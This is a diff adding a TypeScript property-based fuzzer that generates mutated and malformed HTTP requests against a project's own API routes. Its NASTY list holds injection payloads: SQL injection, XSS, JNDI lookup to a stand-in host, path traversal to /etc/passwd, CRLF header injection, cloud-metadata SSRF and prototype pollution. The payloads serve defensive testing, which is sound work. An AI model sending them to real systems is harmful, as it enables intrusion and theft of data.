@@ -1,0 +1,261 @@
+import fc from 'fast-check';
+import { isObject, type Json, type JsonObject } from '#kernel';
+import { ROUTES, type RouteRow } from '../../apps/api/routes.js';
+import { REQUESTS } from '../../apps/api/requests.js';
+import type { OperationExample } from '../../apps/api/operation.js';
+import { arbitraryOf } from '../contracts/arbitrary.js';
+
+/** A request as it goes over the wire. */
+export interface FuzzRequest {
+  method: string;
+  path: string;
+  headers: Record<string, string>;
+  body: string | undefined;
+  /** The client that this is a request of, by the examples; any other is refused what it may not do. */
+  by: string | undefined;
+}
+
+/** Ids that were answered go in here and are asked for again. */
+export type Ids = () => string;
+
+const UNKNOWN = '01890000-0000-7000-8000-000000000000';
+
+/** What is wrong somewhere, and what somebody may hope is. */
+const NASTY: Json[] = [
+  null,
+  true,
+  0,
+  -1,
+  1e308,
+  2 ** 53,
+  '',
+  ' ',
+  '\u0000',
+  '\ud800',
+  '\u202e',
+  'null',
+  'x'.repeat(70_000),
+  '-00:00',
+  '2026-11-01T00:00:00-00:00',
+  '2026-02-30T00:00:00Z',
+  '9999-12-31T23:59:59Z',
+  "' or 1=1 --",
+  '"><script>alert(1)</script>',
+  '{{7*7}}',
+  '${jndi:ldap://elders.example}',
+  '../../etc/passwd',
+  'a\r\nSet-Cookie: b=c',
+  'file:///etc/passwd',
+  'http://169.254.169.254/',
+  'urn:nld:oin:00000000000000000000',
+  'urn:schakel:nergens',
+  [],
+  {},
+  [[[[]]]],
+  { __proto__: { polluted: true } } as unknown as Json,
+  { constructor: { prototype: { polluted: true } } },
+  { $ref: '#/' },
+];
+
+const nasty = fc.constantFrom(...NASTY);
+const junkText = fc.oneof(
+  fc.string({ unit: 'binary', maxLength: 60 }),
+  fc.constantFrom('{', '[', '"', '{"a":1,"a":2}', '[1,]', '\ufeff{}', '<a/>', 'a;b\n1;2', ''),
+  fc.integer({ min: 2, max: 300 }).map((depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`),
+  fc.integer({ min: 2, max: 60 }).map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
+);
+
+/** Somewhere in the value something is changed, left out or added. */
+function mutated(value: Json): fc.Arbitrary<Json> {
+  const into = (inner: Json, put: (changed: Json) => Json): fc.Arbitrary<Json> => mutated(inner).map(put);
+  if (Array.isArray(value) && value.length > 0) {
+    return fc.oneof(
+      fc.constant<Json>([...value, ...value]),
+      nasty.map((one): Json => [...value, one]),
+      fc.nat(value.length - 1).chain((at): fc.Arbitrary<Json> => {
+        const others = [...value];
+        return into(value[at]!, (changed) => others.with(at, changed));
+      }),
+      nasty,
+    );
+  }
+  if (isObject(value) && Object.keys(value).length > 0) {
+    return fc.constantFrom(...Object.keys(value)).chain((name) => {
+      const { [name]: inner, ...rest } = value;
+      return fc.oneof(
+        { weight: 1, arbitrary: fc.constant<Json>(rest) },
+        { weight: 1, arbitrary: nasty.map((one): Json => ({ ...value, onbekend: one })) },
+        { weight: 4, arbitrary: into(inner!, (changed) => ({ ...value, [name]: changed })) },
+      );
+    });
+  }
+  return nasty;
+}
+
+const bodyOfExample = (example: OperationExample | undefined): fc.Arbitrary<string> =>
+  example?.body === undefined
+    ? junkText
+    : fc.oneof(
+        { weight: 2, arbitrary: fc.constant(JSON.stringify(example.body)) },
+        { weight: 5, arbitrary: mutated(example.body as Json).map((body) => JSON.stringify(body)) },
+        { weight: 1, arbitrary: cut(JSON.stringify(example.body)) },
+      );
+
+const cut = (text: string): fc.Arbitrary<string> => fc.nat(text.length).map((at) => text.slice(0, at));
+
+function bodyOf(route: RouteRow, mediaType: string): fc.Arbitrary<string> {
+  const { operation } = route;
+  const examples = operation.examples.filter((one) => (one.mediaType ?? 'application/json') === mediaType);
+  const generated = operation.body
+    ? arbitraryOf(REQUESTS[operation.body] as JsonObject).chain((body) =>
+        fc.oneof(fc.constant(body), mutated(body)),
+      )
+    : undefined;
+  return fc.oneof(
+    ...examples.map((one) => ({ weight: 4, arbitrary: bodyOfExample(one) })),
+    ...(generated ? [{ weight: 4, arbitrary: generated.map((body) => JSON.stringify(body)) }] : []),
+    { weight: 1, arbitrary: junkText },
+  );
+}
+
+const HEADER_VALUE = fc
+  .string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 80 })
+  .filter((text) => text.trim() !== '');
+const headers = (own: string[]): fc.Arbitrary<Record<string, string>> =>
+  fc.dictionary(
+    fc.constantFrom(
+      'accept',
+      'traceparent',
+      'tracestate',
+      'fsc-transaction-id',
+      'if-match',
+      'idempotency-key',
+      'schakel-subject',
+      'schakel-source',
+      'x-forwarded-for',
+      'content-encoding',
+      'accept-encoding',
+      'range',
+      'x-http-method-override',
+      ...own,
+    ),
+    fc.oneof(
+      HEADER_VALUE,
+      fc.constantFrom(
+        '*',
+        '*/*',
+        'application/json',
+        'text/html',
+        'gzip',
+        `00-${'a'.repeat(32)}-${'b'.repeat(16)}-01`,
+        '{"recordId":"A"}',
+        UNKNOWN,
+      ),
+    ),
+    { maxKeys: 3 },
+  );
+
+const query = (route: RouteRow): fc.Arbitrary<string> => {
+  const names = [...Object.keys(route.operation.query ?? {}), 'onbekend', '__proto__'];
+  const shown = Object.entries(route.operation.examples.find((one) => one.query)?.query ?? {});
+  // What an example takes from an earlier answer is not there: anything may stand in its place.
+  const example = shown.map(([name, value]): [string, string] => [
+    name,
+    typeof value === 'string' ? value : name,
+  ]);
+  return fc.oneof(
+    fc.constant(''),
+    fc.constant(example.length > 0 ? `?${new URLSearchParams(example)}` : ''),
+    fc
+      .array(
+        fc.tuple(
+          fc.constantFrom(...names),
+          fc.oneof(fc.string({ maxLength: 20 }), fc.integer().map(String), fc.constant('%00')),
+        ),
+        {
+          maxLength: 3,
+        },
+      )
+      .map((pairs) => `?${pairs.map(([name, value]) => `${name}=${encodeURIComponent(value)}`).join('&')}`),
+  );
+};
+
+const pathOf = (route: RouteRow, ids: Ids): fc.Arbitrary<string> =>
+  route.path.includes(':')
+    ? fc
+        .oneof(
+          { weight: 3, arbitrary: fc.constant('').map(() => ids()) },
+          { weight: 1, arbitrary: fc.uuid() },
+          {
+            weight: 1,
+            arbitrary: fc.string({ maxLength: 60 }).map((text) => encodeURIComponent(text) || 'x'),
+          },
+        )
+        .map((id) => route.path.replace(':id', id))
+    : fc.constant(route.path);
+
+/** Long polls would be waiting, not fuzzing. */
+const withoutWaiting = (address: string): string => address.replaceAll(/([?&])wait=[^&]*/g, '$1wait=0');
+
+/** Any request at any route: as the document has it, nearly so, or not at all. */
+export const anyRequest = (ids: Ids): fc.Arbitrary<FuzzRequest> =>
+  fc.oneof(
+    // Where something is taken in, more can go wrong.
+    ...ROUTES.map((route) => ({ weight: route.takes ? 4 : 1, arbitrary: requestAt(route, ids) })),
+  );
+
+function requestAt(route: RouteRow, ids: Ids): fc.Arbitrary<FuzzRequest> {
+  const bodies = Object.fromEntries((route.takes ?? []).map((type) => [type, bodyOf(route, type)]));
+  return fc
+    .record({
+      method: fc.oneof(
+        { weight: 12, arbitrary: fc.constant(route.method as string) },
+        {
+          weight: 1,
+          arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS'),
+        },
+      ),
+      path: pathOf(route, ids),
+      query: query(route),
+      headers: fc.oneof(
+        { weight: 3, arbitrary: fc.constant<Record<string, string>>({}) },
+        {
+          weight: 2,
+          arbitrary: headers(Object.keys(route.operation.headers ?? {}).map((name) => name.toLowerCase())),
+        },
+      ),
+      by: fc.constantFrom(
+        undefined,
+        ...route.operation.examples.flatMap(({ by }) => (by ? [by, by, by] : [])),
+      ),
+      type: fc.constantFrom(...(route.takes ?? ['application/json'])),
+      wrongType: fc.oneof(
+        { weight: 15, arbitrary: fc.constant(undefined) },
+        { weight: 1, arbitrary: fc.constantFrom('text/plain', '', 'application/json; charset=utf-16') },
+      ),
+    })
+    .chain(({ type, wrongType, ...rest }) =>
+      (bodies[type] ?? fc.constant(undefined)).map((body) => {
+        const sends = body !== undefined && !['GET', 'HEAD'].includes(rest.method);
+        const own = headersOfExample(route, type);
+        return {
+          by: rest.by,
+          method: rest.method,
+          path: withoutWaiting(`${rest.path}${rest.query}`),
+          headers: {
+            ...own,
+            ...rest.headers,
+            ...(sends ? { 'content-type': wrongType ?? type } : {}),
+          },
+          body: sends ? body : undefined,
+        };
+      }),
+    );
+}
+
+const headersOfExample = (route: RouteRow, mediaType: string): Record<string, string> =>
+  Object.fromEntries(
+    Object.entries(route.operation.examples.find((one) => one.mediaType === mediaType)?.headers ?? {}).map(
+      ([name, value]) => [name.toLowerCase(), value],
+    ),
+  );
